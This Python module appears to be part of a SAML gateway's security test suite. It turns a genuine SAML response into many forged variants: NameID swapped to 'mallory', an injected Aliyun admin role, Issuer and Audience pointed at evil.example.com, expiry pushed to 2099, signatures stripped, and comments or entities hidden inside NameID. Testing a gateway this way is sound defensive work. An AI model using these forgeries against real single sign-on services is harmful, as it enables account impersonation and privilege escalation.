"""The genuine message with something else in it: for another service, another time, another person."""

from collections.abc import Callable, Iterator, Mapping
from functools import partial
from types import MappingProxyType

from lxml import etree

from gateway.saml import tags
from gateway.saml.attacks.document_changes import HIDDEN
from gateway.saml.attacks.loot import Attempt, Loot, assertion_in, field_of, field_of_document, say_mallory, strip
from gateway.saml.attacks.tree_changes import Node, find_all, serialize

_LATER = "2099-01-01T00:00:00Z"
_EVIL = "https://evil.example.com/"
_MARK = "hidden-mark-5f1c"
_DATA = "//saml:SubjectConfirmationData"

Change = Callable[[Node], None]


def _texts(path: str, text: str, root: Node) -> None:
    for element in find_all(root, path):
        element.text = text


def _attributes(path: str, name: str, value: str | None, root: Node) -> None:
    for element in find_all(root, path):
        if value is not None:
            element.set(name, value)
        elif name in element.attrib:
            del element.attrib[name]


def _another_attribute(root: Node) -> None:
    assertion = assertion_in(root)
    statement = etree.SubElement(assertion, tags.ATTRIBUTE_STATEMENT)
    attribute = etree.SubElement(statement, tags.ATTRIBUTE, Name="https://www.aliyun.com/SAML-Role/Attributes/Role")
    etree.SubElement(attribute, tags.ATTRIBUTE_VALUE).text = "acs:ram::1:role/admin,acs:ram::1:saml-provider/corp"


def _another_audience(root: Node) -> None:
    for restriction in find_all(root, "//saml:AudienceRestriction"):
        etree.SubElement(restriction, tags.AUDIENCE).text = _EVIL


def _person(root: Node) -> None:
    say_mallory(assertion_in(root))


_OF_THE_ASSERTION: Mapping[str, tuple[str, Change]] = MappingProxyType(
    {
        "the NameID": ("sign in as anybody", partial(_texts, "//saml:Subject/saml:NameID", "mallory")),
        "NameID and attributes": ("sign in as anybody, to any role", _person),
        "one more attribute": ("take a role that was not given", _another_attribute),
        "the Issuer": ("speak for another company", partial(_texts, "//saml:Assertion/saml:Issuer", _EVIL)),
        "the Audience": ("use what was made for another service", partial(_texts, "//saml:Audience", _EVIL)),
        "one more Audience": ("use what was made for another service", _another_audience),
        "the Recipient": ("use what was made for another service", partial(_attributes, _DATA, "Recipient", _EVIL)),
        "its end": ("use a login for ever", partial(_attributes, f"{_DATA}|//saml:Conditions", "NotOnOrAfter", _LATER)),
        "no end": ("use a login for ever", partial(_attributes, _DATA, "NotOnOrAfter", None)),
        "when the person signed in": (
            "pass for somebody who was just asked for a password",
            partial(_attributes, "//saml:AuthnStatement", "AuthnInstant", "2020-01-01T00:00:00Z"),
        ),
        "the end of the session": (
            "stay longer than the company allows",
            partial(_attributes, "//saml:AuthnStatement", "SessionNotOnOrAfter", _LATER),
        ),
        "how the person signed in": (
            "pass for somebody with a second factor",
            partial(_texts, "//saml:AuthnContextClassRef", "urn:oasis:names:tc:SAML:2.0:ac:classes:TimeSyncToken"),
        ),
        "which request it answers": (
            "push a login into another browser",
            partial(_attributes, _DATA, "InResponseTo", "_somebody-elses"),
        ),
        "its ID": ("use one login twice", partial(_attributes, "//saml:Assertion", "ID", "_another")),
        "the confirmation method": (
            "need no proof of possession",
            partial(
                _attributes, "//saml:SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"
            ),
        ),
    }
)
_OF_THE_RESPONSE: Mapping[str, tuple[str, Change]] = MappingProxyType(
    {
        "the Destination": (
            "use what was sent elsewhere",
            partial(_attributes, "/samlp:Response", "Destination", _EVIL),
        ),
        "the Issuer of the response": (
            "speak for another company",
            partial(_texts, "/samlp:Response/saml:Issuer", _EVIL),
        ),
        "which request the response answers": (
            "push a login into another browser",
            partial(_attributes, "/samlp:Response", "InResponseTo", "_somebody-elses"),
        ),
        "the status": (
            "turn a refusal into a login",
            partial(_attributes, "//samlp:StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:Responder"),
        ),
        "the version": ("reach an older reader", partial(_attributes, "/samlp:Response", "Version", "1.1")),
    }
)


def changed_contents(loot: Loot) -> Iterator[Attempt]:
    """Each change once under the signature as it is, and, of what only it protects, once without any signature."""
    if loot.plain:
        for what, (gain, change) in _OF_THE_ASSERTION.items():
            root = loot.tree()
            change(root)
            if serialize(root) != serialize(loot.tree()):
                yield Attempt("contents", f"{what}, changed", gain, field_of(root))
                strip(root)
                yield Attempt("contents", f"{what}, changed, and signatures taken away", gain, field_of(root))
    for what, (gain, change) in _OF_THE_RESPONSE.items():
        root = loot.tree()
        change(root)
        if serialize(root) != serialize(loot.tree()):
            yield Attempt("contents", f"{what}, changed", gain, field_of(root))
    if loot.opened is not None:
        return  # below the encryption another signature stands: what it covers is genuine
    root = loot.tree()
    strip(root)
    yield Attempt("signature", "signatures taken away", "need no key at all", field_of(root))


def hidden_texts(loot: Loot) -> Iterator[Attempt]:
    """Comments, instructions and CDATA where a reader might stop, or go on reading."""
    places = {
        "NameID": "//saml:Subject/saml:NameID",
        "the first AttributeValue": "(//saml:AttributeValue)[1]",
        "DigestValue": "(//ds:DigestValue)[1]",
        "SignatureValue": "(//ds:SignatureValue)[1]",
        "Audience": "(//saml:Audience)[1]",
        "Issuer": "(//saml:Issuer)[1]",
    }
    for place, path in places.items():
        for kind, (hidden, _) in HIDDEN.items():
            root = loot.tree()
            for element in find_all(root, path):
                text = element.text or ""
                element.text = text[: len(text) // 2] + _MARK + text[len(text) // 2 :]
                document = serialize(root).replace(_MARK.encode(), hidden.encode())
                gain = "be read as somebody whose name is the first half"
                yield Attempt("hidden text", f"{kind} in {place}", gain, field_of_document(document))
    for name, text in (("an undefined entity", "&x;"), ("NUL by reference", "&#0;"), ("a line end", "&#10;")):
        root = loot.tree()
        for element in find_all(root, "//saml:Subject/saml:NameID"):
            element.text = (element.text or "") + _MARK
            document = serialize(root).replace(_MARK.encode(), text.encode())
            yield Attempt("hidden text", f"{name} in NameID", "be read as somebody else", field_of_document(document))
